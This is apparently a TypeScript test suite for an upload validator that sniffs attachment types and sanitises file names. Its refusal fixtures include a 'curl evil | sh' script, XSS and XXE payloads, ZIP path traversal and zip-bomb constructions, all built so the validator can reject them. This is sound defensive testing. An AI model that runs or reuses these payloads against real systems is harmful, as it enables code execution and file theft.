import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { describe, it } from 'node:test';
import { crc32, deflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import { checkAttachment, DEFAULT_RULES, MEDIA_KINDS, safeFileName, ZIP_LIMITS, type AttachmentRules, type MediaKind, type RefusalReason } from './attachments.ts';

// Samples are built here rather than committed: each shows the one structural feature it tests.

const ALL: AttachmentRules = { maxBytes: 10 * 1024 * 1024, accepted: Object.keys(MEDIA_KINDS) as MediaKind[] };
const bytes = (...parts: (string | number[] | Uint8Array)[]) =>
  new Uint8Array(Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part)))));
const utf8 = (text: string) => new Uint8Array(Buffer.from(text, 'utf8'));

const PDF = bytes('%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n');
const PNG = bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13], 'IHDR', [0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0]);
const JPEG = bytes([0xff, 0xd8, 0xff, 0xe0, 0, 16], 'JFIF\0', [1, 1, 0, 0, 1, 0, 1, 0, 0, 0xff, 0xd9]);
const ftyp = (...brands: string[]) => bytes([0, 0, 0, 8 + brands.length * 4], 'ftyp', brands[0] ?? '', [0, 0, 0, 0], brands.slice(1).join(''));

type Entry = { name: string; data?: string | Uint8Array; method?: 0 | 8; flags?: number; compressedSize?: number; uncompressed?: number; offset?: number };

/** A ZIP assembled by hand: local headers and data, central directory, end record. */
function zip(entries: Entry[], end: { cdOffset?: number; comment?: string } = {}): Uint8Array {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const raw = typeof entry.data === 'string' ? Buffer.from(entry.data) : Buffer.from(entry.data ?? []);
    const method = entry.method ?? 8;
    const body = method === 8 ? deflateRawSync(raw) : raw;
    const name = Buffer.from(entry.name);
    const header = (size: number, signature: number) => {
      const h = Buffer.alloc(size);
      h.writeUInt32LE(signature, 0);
      const at = size === 30 ? 0 : 2; // central headers carry "version made by" first
      h.writeUInt16LE(20, 4 + at);
      h.writeUInt16LE(entry.flags ?? 0x800, 6 + at);
      h.writeUInt16LE(method, 8 + at);
      h.writeUInt32LE(crc32(raw), 14 + at);
      h.writeUInt32LE(entry.compressedSize ?? body.length, 18 + at);
      h.writeUInt32LE(entry.uncompressed ?? raw.length, 22 + at);
      h.writeUInt16LE(name.length, 26 + at);
      return h;
    };
    const central = header(46, 0x02014b50);
    central.writeUInt32LE(entry.offset ?? offset, 42);
    locals.push(header(30, 0x04034b50), name, body);
    centrals.push(central, name);
    offset += 30 + name.length + body.length;
  }
  const directory = Buffer.concat(centrals);
  const comment = Buffer.from(end.comment ?? '');
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(entries.length, 8);
  eocd.writeUInt16LE(entries.length, 10);
  eocd.writeUInt32LE(directory.length, 12);
  eocd.writeUInt32LE(end.cdOffset ?? offset, 16);
  eocd.writeUInt16LE(comment.length, 20);
  return new Uint8Array(Buffer.concat([...locals, directory, eocd, comment]));
}

const CONTENT_TYPES = { name: '[Content_Types].xml', data: '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>' };
const docxWith = (...extra: Entry[]) =>
  zip([CONTENT_TYPES, { name: '_rels/.rels', data: '<Relationships/>' }, { name: 'word/document.xml', data: `<w:document>${'<w:p>Đơn đề nghị</w:p>'.repeat(50)}</w:document>` }, ...extra]);
const DOCX = docxWith();
const XLSX = zip([CONTENT_TYPES, { name: 'xl/workbook.xml', data: '<workbook/>' }, { name: 'xl/worksheets/sheet1.xml', data: '<worksheet/>' }]);
const odf = (type: string) => zip([{ name: 'mimetype', data: type, method: 0 }, { name: 'content.xml', data: '<office:document-content/>' }, { name: 'META-INF/manifest.xml', data: '<manifest/>' }]);
const ODT = odf('application/vnd.oasis.opendocument.text');

type Refusal = [string, string, Uint8Array, RefusalReason, AttachmentRules?];

describe('attachments: sniffing the content', () => {
  const accepted: [string, string, Uint8Array, MediaKind][] = [
    ['a minimal PDF', 'don.pdf', PDF, 'pdf'],
    ['a PDF whose header follows some junk', 'don.pdf', bytes('\r\n\r\n', PDF), 'pdf'],
    ['a PNG', 'anh.png', PNG, 'png'],
    ['a JPEG', 'cccd-mat-truoc.jpg', JPEG, 'jpeg'],
    ['a little-endian TIFF', 'scan.tif', bytes('II*\0', [8, 0, 0, 0]), 'tiff'],
    ['a big-endian TIFF', 'scan.tiff', bytes('MM\0*', [0, 0, 0, 8]), 'tiff'],
    ['a HEIC photo', 'IMG_0001.HEIC', ftyp('heic', 'mif1', 'heic'), 'heic'],
    ['a HEIF photo branded mif1', 'IMG_0002.heif', ftyp('mif1', 'mif1', 'heic'), 'heic'],
    ['a DOCX', 'to-khai.docx', DOCX, 'docx'],
    ['a DOCX with a chart’s embedded workbook', 'bao-cao.docx', docxWith({ name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', data: XLSX, method: 0 }), 'docx'],
    ['an XLSX', 'bang-ke.xlsx', XLSX, 'xlsx'],
    ['an ODT', 'don.odt', ODT, 'odt'],
    ['an ODT whose mimetype is deflated', 'don.odt', zip([{ name: 'mimetype', data: 'application/vnd.oasis.opendocument.text' }, { name: 'content.xml', data: '<x/>' }]), 'odt'],
    ['a ZIP with a trailing comment', 'to-khai.docx', zip([CONTENT_TYPES, { name: 'word/document.xml', data: '<w:document/>' }], { comment: 'PK\x05\x06 in a comment' }), 'docx'],
    ['a signed XML e-document', 'hoa-don.xml', utf8('<?xml version="1.0" encoding="UTF-8"?>\n<!-- ký số -->\n<HDon><DLHDon/><Signature xmlns="http://www.w3.org/2000/09/xmldsig#"/></HDon>'), 'xml'],
    ['XML with a UTF-8 BOM and a doctype', 'giay-phep.xml', bytes([0xef, 0xbb, 0xbf], '<?xml version="1.0"?><!DOCTYPE GiayPhep><GiayPhep/>'), 'xml'],
    ['UTF-16 XML', 'to-khai.xml', new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<?xml version="1.0" encoding="UTF-16"?><ToKhai>Tờ khai</ToKhai>', 'utf16le')])), 'xml'],
  ];
  for (const [what, name, content, kind] of accepted) {
    it(`accepts ${what} as ${kind}`, () => {
      const result = checkAttachment({ name, bytes: content }, ALL);
      assert.ok(result.ok, JSON.stringify(result));
      assert.equal(result.kind, kind);
      assert.equal(result.mediaType, MEDIA_KINDS[kind].mediaType);
      assert.equal(result.size, content.length);
      assert.equal(result.sha256, createHash('sha256').update(content).digest('hex'));
      assert.ok(result.storedName.endsWith(MEDIA_KINDS[kind].extension));
    });
  }

  const machO = ['feedface', 'cefaedfe', 'feedfacf', 'cffaedfe', 'cafebabe', 'bebafeca', 'cafebabf', 'bfbafeca'];
  const refused: Refusal[] = [
    ['an empty file', 'don.pdf', new Uint8Array(), 'empty'],
    ['a file over the limit', 'don.pdf', bytes(PDF, new Uint8Array(64)), 'too_large', { maxBytes: PDF.length + 63, accepted: ['pdf'] }],
    ['a DOCX under the default rules', 'to-khai.docx', DOCX, 'type_not_accepted', DEFAULT_RULES],
    ['an EXE disguised as a PDF', 'hoa-don.pdf', bytes('MZ', [0x90, 0], new Uint8Array(60), '%PDF-1.4'), 'executable'],
    ['an ELF named .jpg', 'anh.jpg', bytes([0x7f], 'ELF', [2, 1, 1, 0]), 'executable'],
    ['a shell script named .png', 'anh.png', bytes('#!/bin/sh\ncurl evil | sh\n'), 'executable'],
    ['a script behind a BOM', 'anh.png', bytes([0xef, 0xbb, 0xbf], '#!/usr/bin/env node\n'), 'executable'],
    ...machO.map((magic): Refusal => [`Mach-O/class magic ${magic}`, 'don.pdf', bytes(Buffer.from(magic, 'hex'), [0, 0, 0, 7]), 'executable']),
    ['WebAssembly', 'don.pdf', bytes('\0asm', [1, 0, 0, 0]), 'executable'],
    ['an SVG with a script', 'chu-ky.svg', utf8('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'active_content'],
    ['an SVG with an event handler', 'chu-ky.svg', utf8('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'active_content'],
    ['an SVG without a script', 'chu-ky.svg', utf8('<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>'), 'unknown_type'],
    ['an HTML page with a script', 'don.pdf', utf8('<!DOCTYPE html><html><body><script>steal()</script></body></html>'), 'active_content'],
    ['an HTML page', 'don.xml', utf8('<!doctype html><html><p>Xin chào</p></html>'), 'unknown_type'],
    ['XML with an obfuscated javascript: URL', 'hoa-don.xml', utf8('<?xml version="1.0"?><a href="java&#x0A;script&#58;alert(1)"/>'), 'active_content'],
    ['XML with a namespaced script element', 'hoa-don.xml', utf8('<?xml version="1.0"?><doc xmlns:h="http://www.w3.org/1999/xhtml"><h:script/></doc>'), 'active_content'],
    ['XML declaring entities', 'hoa-don.xml', utf8('<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'), 'active_content'],
    ['a PDF preceded by an HTML script', 'don.pdf', bytes('<html><script>x()</script>\n%PDF-1.4\n'), 'active_content'],
    ['XML without a root element', 'hoa-don.xml', utf8('<?xml version="1.0"?><!-- nothing -->'), 'unknown_type'],
    ['markup without an XML declaration', 'hoa-don.xml', utf8('<HDon/>'), 'unknown_type'],
    ['plain text', 'ghi-chu.pdf', utf8('Kính gửi: UBND phường'), 'unknown_type'],
    ['an AVIF image', 'anh.heic', ftyp('avif', 'mif1', 'avif'), 'unknown_type'],
    ['an MP4 video', 'anh.heic', ftyp('isom', 'isom', 'mp41'), 'unknown_type'],
    ['a legacy Word document', 'don.doc', bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), 'unknown_type'],
    ['a PowerPoint file', 'slide.pptx', zip([CONTENT_TYPES, { name: 'ppt/presentation.xml', data: '<p/>' }]), 'unknown_type'],
    ['an OpenDocument spreadsheet', 'bang.ods', odf('application/vnd.oasis.opendocument.spreadsheet'), 'unknown_type'],
    ['a plain ZIP of a text file', 'ho-so.docx', zip([{ name: 'ghi-chu.txt', data: 'Xin chào' }]), 'archive'],
    ['an empty ZIP', 'ho-so.zip', zip([]), 'archive'],
    ['an EPUB', 'sach.odt', zip([{ name: 'mimetype', data: 'application/epub+zip', method: 0 }]), 'archive'],
    ['a RAR', 'ho-so.pdf', bytes('Rar!\x1a\x07\x01\0'), 'archive'],
    ['a 7z', 'ho-so.pdf', bytes([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), 'archive'],
    ['a gzip', 'ho-so.pdf', bytes([0x1f, 0x8b, 8, 0]), 'archive'],
    ['a tar', 'ho-so.pdf', bytes(new Uint8Array(257), 'ustar\x0000', new Uint8Array(100)), 'archive'],
  ];
  for (const [what, name, content, reason, rules] of refused) {
    it(`refuses ${what}: ${reason}`, () => {
      const result = checkAttachment({ name, bytes: content }, rules ?? ALL);
      assert.equal(result.ok, false);
      assert.equal(result.ok ? undefined : result.reason, reason, JSON.stringify(result));
    });
  }

  it('ignores the extension but reports it, so the UI can warn', () => {
    const result = checkAttachment({ name: 'scan.PDF', bytes: PNG }, DEFAULT_RULES);
    assert.deepEqual(result.ok && [result.kind, result.storedName, result.declaredExtension, result.extensionMatches], ['png', 'scan.png', '.pdf', false]);
    const jpeg = checkAttachment({ name: 'anh.JPEG', bytes: JPEG }, DEFAULT_RULES);
    assert.deepEqual(jpeg.ok && [jpeg.storedName, jpeg.declaredExtension, jpeg.extensionMatches], ['anh.jpg', '.jpeg', true]);
    const traversal = checkAttachment({ name: '../../etc/passwd.pdf', bytes: PDF }, DEFAULT_RULES);
    assert.deepEqual(traversal.ok && [traversal.storedName, traversal.extensionMatches], ['passwd.pdf', true]);
    const bare = checkAttachment({ name: 'README', bytes: PDF }, DEFAULT_RULES);
    assert.deepEqual(bare.ok && [bare.storedName, bare.declaredExtension, bare.extensionMatches], ['README.pdf', null, false]);
  });

  it('treats bad rules as a programming error', () => {
    assert.throws(() => checkAttachment({ name: 'a.pdf', bytes: PDF }, { maxBytes: 0, accepted: ['pdf'] }), RangeError);
    assert.throws(() => checkAttachment({ name: 'a.pdf', bytes: PDF }, { maxBytes: 10, accepted: ['exe' as MediaKind] }), RangeError);
  });
});

describe('attachments: office ZIPs', () => {
  const big = ZIP_LIMITS.maxUncompressedBytes;
  const manyEntries = Array.from({ length: ZIP_LIMITS.maxEntries }, (_, i): Entry => ({ name: `word/media/p${i}.xml`, data: 'x', method: 0 }));
  const refused: [string, Uint8Array, RefusalReason, RegExp][] = [
    ['a declared uncompressed size over the limit', docxWith({ name: 'word/big.xml', data: 'a'.repeat(1000), uncompressed: big + 1 }), 'archive_bomb', /expands|declares/],
    // Incompressible parts each declaring 40 MiB: every ratio is plausible, the total is not.
    ['a declared total over the limit', docxWith(...[1, 2, 3].map((i) => ({ name: `word/media/image${i}.bin`, data: randomBytes(1024 * 1024), uncompressed: 40 * 1024 * 1024 }))), 'archive_bomb', /declares/],
    ['one entry expanding over 100:1', docxWith({ name: 'word/media/bomb.xml', data: '\0'.repeat(2 * 1024 * 1024) }), 'archive_bomb', /bomb\.xml expands/],
    ['more than 10,000 entries', zip([CONTENT_TYPES, ...manyEntries]), 'archive_bomb', /entries/],
    ['an encrypted entry', docxWith({ name: 'word/secret.xml', data: 'x', flags: 1 }), 'archive_bomb', /encrypted/],
    ['a nested ZIP', docxWith({ name: 'word/embeddings/more.zip', data: zip([{ name: 'a.txt', data: 'a' }]), method: 0 }), 'archive_bomb', /nested/],
    ['entries sharing data', zip([CONTENT_TYPES, { name: 'word/document.xml', data: 'a'.repeat(10), method: 0, compressedSize: 10 + 30 + 10 + 5, uncompressed: 10 + 30 + 10 + 5 }, { name: 'word/b.xml', data: 'bbbbb', method: 0 }]), 'archive_bomb', /overlapping/],
    ['a VBA project (a .docm renamed)', docxWith({ name: 'word/vbaProject.bin', data: 'x' }), 'active_content', /vbaProject/],
    ['Excel 4.0 macro sheets', zip([CONTENT_TYPES, { name: 'xl/workbook.xml', data: '<w/>' }, { name: 'xl/macrosheets/sheet1.xml', data: '<m/>' }]), 'active_content', /macrosheets/],
    ['OpenDocument Basic macros', zip([{ name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', method: 0 }, { name: 'content.xml', data: '<c/>' }, { name: 'Basic/Standard/Module1.xml', data: '<m/>' }]), 'active_content', /Basic/],
    ['an executable inside', docxWith({ name: 'word/embeddings/setup.exe', data: 'MZ', method: 0 }), 'executable', /setup\.exe/],
    ['no end record', DOCX.subarray(0, DOCX.length - 22), 'malformed', /end of central directory/],
    ['a central directory past the end', zip([CONTENT_TYPES, { name: 'word/document.xml', data: 'x' }], { cdOffset: 1_000_000 }), 'malformed', /outside/],
    ['an entry pointing past the data', docxWith({ name: 'word/x.xml', data: 'x', offset: 900_000 }), 'malformed', /outside the file/],
    ['an entry pointing at another entry’s header', docxWith({ name: 'word/x.xml', data: 'x', offset: 0 }), 'malformed', /names differ/],
    ['data running into the central directory', docxWith({ name: 'word/x.xml', data: 'x', compressedSize: 5000 }), 'malformed', /data outside/],
    ['a path escaping the archive', docxWith({ name: 'word/../../etc/cron.d/x', data: 'x' }), 'malformed', /unsafe path/],
    ['an absolute path', docxWith({ name: '/etc/passwd', data: 'x' }), 'malformed', /unsafe path/],
    ['duplicate names', docxWith({ name: 'word/document.xml', data: '<other/>' }), 'malformed', /duplicate/],
    ['a stored entry with two sizes', docxWith({ name: 'word/x.xml', data: 'xx', method: 0, uncompressed: 9 }), 'malformed', /two sizes/],
    ['an ODT without content', zip([{ name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', method: 0 }]), 'malformed', /content\.xml/],
  ];
  for (const [what, content, reason, detail] of refused) {
    it(`refuses ${what}: ${reason}`, () => {
      const result = checkAttachment({ name: 'to-khai.docx', bytes: content }, ALL);
      assert.ok(!result.ok && result.reason === reason, JSON.stringify(result));
      assert.match(result.detail ?? '', detail);
    });
  }

  it('keeps refusal details printable, whatever the file quotes', () => {
    const odd = checkAttachment({ name: 'x.odt', bytes: odf('application/vnd.oasis.opendocument.te\nxt\u0007') }, ALL);
    assert.deepEqual(odd, { ok: false, reason: 'unknown_type', detail: 'application/vnd.oasis.opendocument.te?xt?' });
    const entry = checkAttachment({ name: 'x.docx', bytes: docxWith({ name: 'word/a\r\nFAKE LOG LINE.xml', data: 'x', flags: 1 }) }, ALL);
    assert.ok(!entry.ok && entry.detail === 'encrypted entry word/a??FAKE LOG LINE.xml', JSON.stringify(entry));
  });

  it('accepts exactly 10,000 entries', () => {
    const result = checkAttachment({ name: 'x.docx', bytes: zip([CONTENT_TYPES, ...manyEntries.slice(1)]) }, ALL);
    assert.ok(result.ok, JSON.stringify(result));
  });
});

describe('attachments: stored names', () => {
  const names: [string, string, string][] = [
    ['../../etc/passwd.pdf', '.pdf', 'passwd.pdf'],
    ['C:\\Users\\An\\Desktop\\Đơn xin việc.docx', '.pdf', 'Đơn xin việc.pdf'],
    ['CON.pdf', '.pdf', '_CON.pdf'],
    ['nul .jpg', '.jpg', '_nul.jpg'],
    ['lpt9.tar.gz', '.pdf', '_lpt9.tar.pdf'],
    ['COM¹', '.png', '_COM¹.png'],
    ['console.pdf', '.pdf', 'console.pdf'],
    ['...  .bashrc', '.pdf', 'tep-dinh-kem.pdf'],
    ['', '.pdf', 'tep-dinh-kem.pdf'],
    ['<>:"|?*.pdf', '.pdf', 'tep-dinh-kem.pdf'],
    ['hoa-don\u202Efdp.exe', '.pdf', 'hoa-donfdp.pdf'],
    ['ta\u0300i lie\u0302\u0323u\u0000\t\n  mới.PDF', '.pdf', 'tài liệu mới.pdf'],
    ['Quyết định số 12.2024', '.pdf', 'Quyết định số 12.2024.pdf'],
    ['scan.jpeg.', '.jpg', 'scan.jpeg.jpg'],
  ];
  for (const [name, extension, expected] of names) {
    it(`${JSON.stringify(name)} → ${expected}`, () => assert.equal(safeFileName(name, extension), expected));
  }

  it('shortens a long Vietnamese name at a letter boundary, keeping its diacritics', () => {
    const name = `${'Giấy chứng nhận quyền sử dụng đất, quyền sở hữu nhà ở và tài sản khác gắn liền với đất '.repeat(4)}.pdf`;
    const stored = safeFileName(name, '.pdf');
    assert.ok(stored.length <= 120 && Buffer.byteLength(stored) <= 255, stored);
    assert.ok(name.startsWith(stored.slice(0, -'.pdf'.length)), stored);
    assert.match(stored, /^Giấy chứng nhận quyền sử dụng đất/);
    assert.ok(stored.endsWith('.pdf') && !stored.endsWith(' .pdf'));
  });

  it('refuses an extension that is not one (programming error)', () => {
    for (const extension of ['pdf', '.PDF', '.p/f', '.', '.123']) assert.throws(() => safeFileName('a', extension), RangeError, extension);
  });
});

describe('attachments: properties', () => {
  const extension = fc.constantFrom(...Object.values(MEDIA_KINDS).map((info) => info.extension));
  const tricky = fc.constantFrom('/', '\\', '.', ' ', '..', 'CON', 'lpt1', '\u202e', '\u200b', '\0', '\u0085', ':', '*', 'ệ', 'e\u0302\u0323', '\ud800', '😀', '\u2028', 'a'.repeat(60), 'đ'.repeat(50));
  const fileName = fc.array(fc.oneof(tricky, fc.string({ unit: 'binary', maxLength: 8 })), { maxLength: 12 }).map((parts) => parts.join(''));

  it('safeFileName: no separators or control characters, ≤ 120 characters, the given extension, idempotent', () => {
    fc.assert(
      fc.property(fileName, extension, (name, ext) => {
        const stored = safeFileName(name, ext);
        assert.doesNotMatch(stored, /[/\\<>:"|?*\p{Cc}\p{Cf}\p{Cs}]/u);
        assert.ok(stored.length <= 120 && Buffer.byteLength(stored) <= 255);
        assert.ok(stored.endsWith(ext) && stored.length > ext.length);
        assert.ok(!/^[.\s]/.test(stored));
        assert.equal(stored, stored.normalize('NFC'));
        assert.equal(safeFileName(stored, ext), stored);
      }),
      { numRuns: 2000 },
    );
  });

  const office: readonly MediaKind[] = ['docx', 'xlsx', 'odt'];
  const wellFormed = (result: ReturnType<typeof checkAttachment>) => (result.ok ? ALL.accepted.includes(result.kind) : typeof result.reason === 'string');

  it('random bytes never throw, and are never taken for an office document', () => {
    const prefix = fc.constantFrom(new Uint8Array(), bytes('PK\x03\x04'), bytes('PK\x05\x06'), bytes('%PDF-'), bytes('<?xml '), bytes('<svg '), bytes([0, 0, 0, 24], 'ftyp'), bytes([0xff, 0xfe]));
    fc.assert(
      fc.property(prefix, fc.uint8Array({ maxLength: 600 }), (head, tail) => {
        const result = checkAttachment({ name: 'x', bytes: bytes(head, tail) }, ALL);
        assert.ok(wellFormed(result));
        assert.ok(!(result.ok && office.includes(result.kind)));
      }),
      { numRuns: 3000 },
    );
  });

  it('corrupted office files never throw; any still accepted keep their structure', () => {
    const sample = fc.constantFrom(DOCX, XLSX, ODT);
    const edits = fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 8 });
    fc.assert(
      fc.property(sample, edits, (original, changes) => {
        const corrupted = original.slice();
        for (const [at, value] of changes) corrupted[at % corrupted.length] = value;
        const result = checkAttachment({ name: 'x.docx', bytes: corrupted }, ALL);
        assert.ok(wellFormed(result));
        if (result.ok && office.includes(result.kind)) {
          const text = Buffer.from(corrupted).toString('latin1');
          assert.ok(text.startsWith('PK\x03\x04') && text.includes('PK\x05\x06') && (text.includes('[Content_Types].xml') || text.includes('mimetype')));
        }
      }),
      { numRuns: 3000 },
    );
  });

  it('every strict prefix of an office file is refused', () => {
    for (const sample of [DOCX, XLSX, ODT]) {
      for (let length = 1; length < sample.length; length++) {
        assert.equal(checkAttachment({ name: 'x.docx', bytes: sample.subarray(0, length) }, ALL).ok, false, `length ${length}`);
      }
    }
  });
});
